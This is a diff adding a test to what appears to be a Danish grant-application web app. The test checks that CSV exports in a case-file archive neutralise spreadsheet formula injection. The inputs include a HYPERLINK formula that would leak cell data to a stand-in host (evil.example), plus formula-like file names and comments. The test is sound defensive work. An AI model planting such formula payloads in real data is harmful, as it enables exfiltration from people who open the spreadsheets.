@@ -80,3 +80,47 @@ def test_the_file_and_the_own_data_of_a_youth_case_hold_its_youth_subsidy(world,
     archive = zipfile.ZipFile(io.BytesIO(client.get("/konto/mine-data.zip").data))
     (case,) = json.loads(archive.read("mine-data.json"))["cases"]
     assert case["id"] == application.id and youth_facts(case) == wanted
+
+
+# What a spreadsheet takes for a formula when a cell starts with it (CSV injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_no_text_typed_by_anyone_is_a_formula_in_the_files_spreadsheets(world, client, auth):
+    """The case file's CSVs are opened in a spreadsheet by the secretariat and the archive:
+    an applicant's message, a file's name or a comment that starts like a formula is kept
+    as text ("'=…"), never run (the budgets' and payments' exports do the same)."""
+    import csv
+
+    from tests.messages.helpers import post_message
+
+    application = make_application(world.employee, world.fund, state="screening")
+    db.session.commit()
+    auth.login(world.employee)
+    attack = '=HYPERLINK("https://evil.example/?"&A1;"Klik")'
+    response = post_message(
+        client,
+        application,
+        body=attack,
+        files=(io.BytesIO(b"%PDF-1.4\n%%EOF\n"), "=cmd.pdf"),
+    )
+    assert response.status_code == 302
+    auth.login(world.caseworker)
+    response = client.post(
+        f"/ansoegninger/{application.id}/trin/request_information",
+        data={"comment": "+SUM(1;2)"},
+    )
+    assert response.status_code in (200, 302)
+    archive = zipfile.ZipFile(
+        io.BytesIO(client.get(f"/ansoegninger/{application.id}/sagsmappe.zip").data)
+    )
+    cells = {}
+    for name in ("beskeder.csv", "journal.csv", "dokumenter.csv"):
+        rows = list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
+        cells[name] = [cell for row in rows for cell in row]
+    for name, found in cells.items():
+        assert not [c for c in found if c.startswith(FORMULA_STARTS)], name
+    # Kept, as text.
+    assert "'" + attack in cells["beskeder.csv"]
+    assert "'=cmd.pdf" in cells["dokumenter.csv"]
+    assert "'+SUM(1;2)" in cells["journal.csv"]
